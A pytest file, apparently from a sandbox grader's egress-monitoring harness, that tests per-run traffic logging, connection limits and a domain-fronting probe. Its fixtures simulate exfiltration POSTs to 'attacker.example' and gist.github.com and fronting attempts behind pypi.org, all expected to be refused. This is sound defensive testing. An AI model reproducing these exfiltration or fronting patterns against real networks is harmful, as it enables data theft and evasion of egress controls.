    (tmp_path / "runs" / "r2.open").write_text(json.dumps({"run": "r2", "clients": ["10.0.0.6"]}))
    recorder.poll()
    assert (tmp_path / "runs" / "r1" / "opened").exists()
    for i in range(50):  # r1 floods
        recorder.write("http", fakewire.http("attacker.example", "POST", f"/{i}", "x" * 100, client="10.0.0.5"))
    recorder.write("http", fakewire.http("gist.github.com", "POST", "/mine", "secret", client="10.0.0.6"))
    recorder.write("http", fakewire.http("gist.github.com", "POST", "/nobody", "x", client="10.0.0.7"))
    (tmp_path / "runs" / "r1.close").write_text("")
    (tmp_path / "runs" / "r2.close").write_text("")
    recorder.poll()
    r1, full1 = wire.parse_log(wire.HttpRecord, (tmp_path / "runs" / "r1" / "http.jsonl").read_text(), "http.jsonl", "r1")
    r2, full2 = wire.parse_log(wire.HttpRecord, (tmp_path / "runs" / "r2" / "http.jsonl").read_text(), "http.jsonl", "r2")
    assert full1 and 0 < len(r1) < 50 and [r.path for r in r1] == [f"/{i}" for i in range(len(r1))]
    assert not full2 and [r.path for r in r2] == ["/mine"]  # the flood next door took nothing of it
    assert [r["path"] for r in _records(tmp_path / "http.jsonl")] == ["/nobody"]  # nobody's: read by no verdict
    with pytest.raises(wire.WireError, match="another run"):  # one run's log is never read as another's
        wire.parse_log(wire.HttpRecord, (tmp_path / "runs" / "r1" / "http.jsonl").read_text(), "http.jsonl", "r2")


@pytest.mark.parametrize("late", ["close", "gone"])
def test_a_proxys_next_run_keeps_its_claim_whatever_the_previous_run_asks_late(tmp_path: Path, late: str) -> None:
    """A proxy serves runs one after another (the backend's pool, the hub's keeper re-lists it): each run claims its
    address. The previous run gives its claim up before the proxy is handed back, but its close or removal may
    reach the internet after the next run's open (the grader waits two seconds at most): the newer claim wins, and
    the late request never takes it, so the next run's records land in its own log, none in the general one."""
    from grader.protocol.common import Recorder

    recorder = Recorder(str(tmp_path), ("http", "dns", "tcp"))
    runs = tmp_path / "runs"
    (runs / "sl-b-old.open").write_text(json.dumps({"run": "sl-b-old", "clients": ["10.0.0.5"]}))
    recorder.poll()
    recorder.write("http", fakewire.http("gist.github.com", "POST", "/old", "x", client="10.0.0.5"))
    # the next run's open and the old run's late request come in one poll, the old one's acted on after (sorted)
    (runs / "sl-a-new.open").write_text(json.dumps({"run": "sl-a-new", "clients": ["10.0.0.5"]}))
    (runs / f"sl-b-old.{late}").write_text("")
    recorder.poll()
    recorder.write("http", fakewire.http("gist.github.com", "POST", "/new", "y", client="10.0.0.5"))
    (runs / "sl-a-new.close").write_text("")
    recorder.poll()
    new, _ = wire.parse_log(wire.HttpRecord, (runs / "sl-a-new" / "http.jsonl").read_text(), "http.jsonl", "sl-a-new")
    assert [r.path for r in new] == ["/new"], "the next run's own record, and none of the previous run's"
    assert not (tmp_path / "http.jsonl").exists() or "/new" not in (tmp_path / "http.jsonl").read_text()


def test_the_recorder_polls_fast_soon_after_a_request_a_record_or_a_poke_and_slowly_otherwise(tmp_path: Path) -> None:
    """A run's grader waits for each answer (opened, closed, gone): for a while after any request, any record of a
    run's and any poke (the grader pokes when its sandbox finished, before it asks for the close), the recorder
    looks every few ms; otherwise seldom, even with a run open: a prepared run may be held for minutes."""
    from grader.protocol import wire
    from grader.protocol.common import Recorder

    recorder = Recorder(str(tmp_path), ("http", "dns", "tcp"))
    idle, busy = 0.02, 0.004
    assert recorder.pause(idle, busy, busy_for=2.0) == idle  # nothing asked yet
    (tmp_path / "runs" / "r1.open").write_text(json.dumps({"run": "r1", "clients": ["10.0.0.5"]}))
    recorder.poll()
    assert recorder.pause(idle, busy, busy_for=2.0) == busy  # just asked: the run's traffic and close follow
    time.sleep(0.05)
    assert recorder.pause(idle, busy, busy_for=0.04) == idle, "open but quiet (held): slowly"
    recorder.write("dns", wire.DnsRecord(time.time(), "10.0.0.5", "x.example", 1, answered=True, malformed=False,
                                         via=None, refused=None))
    assert recorder.pause(idle, busy, busy_for=0.04) == busy, "the run's traffic: its close is coming"
    time.sleep(0.05)
    recorder.write("dns", wire.DnsRecord(time.time(), "10.9.9.9", "x.example", 1, answered=True, malformed=False,
                                         via=None, refused=None))
    assert recorder.pause(idle, busy, busy_for=0.04) == idle, "another client's record (no run's) is no sign"
    recorder.nudge()
    assert recorder.pause(idle, busy, busy_for=0.04) == busy, "a poke: the close is coming"
    (tmp_path / "runs" / "r1.close").write_text("")
    recorder.poll()
    assert recorder.pause(idle, busy, busy_for=2.0) == busy  # closed, but its removal follows
    assert recorder.pause(idle, busy, busy_for=0.0) == idle  # no request lately
    recorder.poll()  # a poll that finds no new request does not count as one
    assert recorder.pause(idle, busy, busy_for=0.0) == idle


def test_the_recorder_lists_its_requests_only_when_the_directory_may_have_changed(tmp_path: Path) -> None:
    """``watch`` skips a listing only when the control directory's stamp is the one the last listing saw, and that
    listing came after the stamp's whole tick; a new request changes the stamp; once a second it lists anyway.
    (Gamed: a recorder that never lists again after its first look would pass a test that only counts listings.)"""
    from grader.protocol import common
    from grader.protocol.common import Recorder

    recorder = Recorder(str(tmp_path), ("http", "dns", "tcp"))
    stamp = recorder.stamp()
    assert stamp is not None
    assert Recorder.due(stamp, None), "never listed: list"
    assert Recorder.due(None, (stamp, time.time(), time.monotonic())), "no stamp (the directory went): list"
    changed_at = stamp[0] / 1e9
    long_after = (stamp, changed_at + 1.0, time.monotonic())
    assert not Recorder.due(stamp, long_after), "the same stamp, listed well after it: nothing new"
    too_soon = (stamp, changed_at + common.STAMP_GRAIN_S / 2, time.monotonic())
    assert Recorder.due(stamp, too_soon), "listed within the stamp's tick: a second change may share the stamp"
    stale = (stamp, changed_at + 1.0, time.monotonic() - common.REPOLL_S)
    assert Recorder.due(stamp, stale), "a second since the last listing: list whatever the stamp says"
    whole = (stamp[0] - stamp[0] % 1_000_000_000, stamp[1], stamp[2])
    assert Recorder.due(whole, (whole, whole[0] / 1e9 + 1.0, time.monotonic())), \
        "a stamp of whole seconds (a coarse file system): a second's changes may share it"
    (tmp_path / "runs" / "r1.open").write_text(json.dumps({"run": "r1", "clients": ["10.0.0.5"]}))
    after = recorder.stamp()
    assert after != stamp and Recorder.due(after, long_after), "a new request changes the stamp"


def test_a_watching_recorder_answers_every_request_of_a_quick_succession(tmp_path: Path) -> None:
    """Requests written back to back, many within one tick of the directory's clock, are each answered, as the
    grader's ``open_run``/``close_run`` wait for; then the recorder idles on a stat (no listing)."""
    from grader.backends.files import HostFiles
    from grader.backends.runlogs import close_run, forget_run, open_run
    from grader.protocol.common import Recorder

    recorder = Recorder(str(tmp_path), ("http", "dns", "tcp"))
    listed: list[float] = []
    poll = recorder.poll

    def counted() -> None:
        listed.append(time.monotonic())
        poll()

    recorder.poll = counted  # type: ignore[method-assign]
    recorder.watch()
    out = HostFiles(tmp_path)
    for i in range(30):
        key = f"sl-r{i}"
        open_run(out, key, [f"10.0.0.{i}"])
        assert sorted(close_run(out, key)) == ["dns.jsonl", "http.jsonl", "tcp.jsonl"]
        forget_run(out, key)
        assert not (tmp_path / "runs" / key).exists(), "its logs were removed when asked"
    time.sleep(0.3)
    before = len(listed)
    time.sleep(0.5)
    assert len(listed) - before <= 1, f"{len(listed) - before} listings in 0.5 s of nothing new: it should only stat"


def test_one_client_cannot_take_every_slot() -> None:
    from grader.protocol.common import Admission

    refused: list[str] = []
    admission = Admission(total=10, per_client=4, refused=refused.append)
    held = [admission.admit("10.0.0.5") for _ in range(6)]
    assert sum(r is not None for r in held) == 4  # the flood stops at its own limit
    others = [admission.admit(f"10.0.1.{i}") for i in range(6)]
    assert sum(r is not None for r in others) == 6  # everyone else still gets in
    assert admission.admit("10.0.2.1") is None  # the total holds too
    for release in [*held, *others]:
        if release is not None:
            release()
    assert admission.admit("10.0.0.5") is not None


def test_the_heartbeat_beats_while_one_client_holds_every_connection_it_may(services: Services) -> None:
    """A client holding idle connections up to its limit and past it starves neither the self-check nor others."""
    from grader.services.internet import MAX_CONNECTIONS

    held = []
    try:
        for _ in range(MAX_CONNECTIONS + 20):  # every slot there is, were there no per-client limit
            try:
                held.append(socket.create_connection((LOCALHOST, services.http), timeout=2))
            except OSError:
                break
        assert len(held) > MAX_CONNECTIONS
        # three fresh beats (one may have been under way already), each asked for as the grader asks (a poke);
        # a starved one waits for the held connections' idle timeout (5 s)
        pid = json.loads((services.internet_out / "ready").read_text())["pid"]
        deadline = time.monotonic() + 3
        for _ in range(3):
            beat = (services.internet_out / "heartbeat").stat().st_mtime
            os.kill(pid, common.POKE_SIGNAL)
            while (services.internet_out / "heartbeat").stat().st_mtime <= beat:
                assert time.monotonic() < deadline, "the heartbeat stopped while one client held its connections"
                time.sleep(0.02)
    finally:
        for sock in held:
            sock.close()


def test_a_stand_in_port_taken_on_another_local_address_listens_on_the_internets_own():
    """Docker's embedded DNS holds a random high port on 127.0.0.11; the host's stand-in may draw the same one."""
    from grader.services import internet

    taken = socket.create_server(("127.0.0.1", 0))
    port = taken.getsockname()[1]
    try:
        with pytest.raises(OSError):
            internet._listen_tcp("0.0.0.0", port)  # the wildcard meets the taken port
        listener = internet._listen_tcp("0.0.0.0", port, own="127.0.0.2")
        try:
            assert listener.getsockname() == ("127.0.0.2", port)
            with socket.create_connection(("127.0.0.2", port), timeout=5):
                pass
        finally:
            listener.close()
        with pytest.raises(OSError):  # a specific address is never silently moved
            internet._listen_tcp("127.0.0.1", port, own="127.0.0.2")
    finally:
        taken.close()


def test_the_runner_names_hosts_in_http_over_one_tunnel_and_each_other_tls_name_in_its_own(fail_closed: Services) -> None:
    """The fronting probe's runner against the real proxy and internet: both names carried in HTTP ride one
    tunnel (the server keeps it after each refusal), the TLS name needs its own; every attempt is on record and
    refused, and the host the proxy opens itself (pypi.org's own name) is never named inside the tunnel."""
    import contextlib
    import io

    from grader.core.evidence import parse_runner_output
    from grader.protocol import wire
    from grader.services import probe_runner

    token = uuid.uuid4().hex
    attempts = tuple(wire.FrontAttempt(sni=s, host=h) for s, h in [
        ("pypi.org", "upload.pypi.org"), ("pypi.org", "attacker.example"), ("upload.pypi.org", "upload.pypi.org"),
        ("pypi.org", "files.pythonhosted.org"),
    ])
    step = wire.FrontStep(connect="pypi.org", port=fail_closed.https, attempts=attempts, request_path=f"/front/{token}", body=token)
    orders = wire.RunnerOrders(timeout=5, connect_timeout=5, proxy=f"http://{LOCALHOST}:{fail_closed.proxy}",
                               ca_file=str(fail_closed.internet_out / "ca.pem"),
                               probes=(wire.ProbeOrders(id="net-domain-fronting", steps=(step,), parallel=1),))
    before = len(_records(fail_closed.proxy_out / "proxy.jsonl"))
    out = io.StringIO()
    with contextlib.redirect_stdout(out):
        probe_runner.Agent(orders).run(orders.probes[0])
    fronted = [r for r in parse_runner_output(out.getvalue()) if r.step == "front"]
    assert sorted(str(r.target) for r in fronted) == sorted(["pypi.org>pypi.org>upload.pypi.org", "pypi.org>pypi.org>attacker.example",
                                                             "pypi.org>upload.pypi.org>upload.pypi.org"]), fronted
    assert not any(r.ok for r in fronted), fronted
    tunnels = [r for r in _records(fail_closed.proxy_out / "proxy.jsonl")[before:] if r.get("host") == "pypi.org"]
    assert len(tunnels) == 2, tunnels  # one for both HTTP names, one for the TLS name
    refused = [r for r in _records(fail_closed.internet_out / "http.jsonl") if token in str(r.get("path")) or r.get("stage") == "tls"]
    assert {r["misdirected"] for r in refused if r["stage"] == "http" and token in r["path"]} == {"upload.pypi.org", "attacker.example"}
    assert not [r for r in _records(fail_closed.internet_out / "http.jsonl") if token in str(r.get("body", ""))]
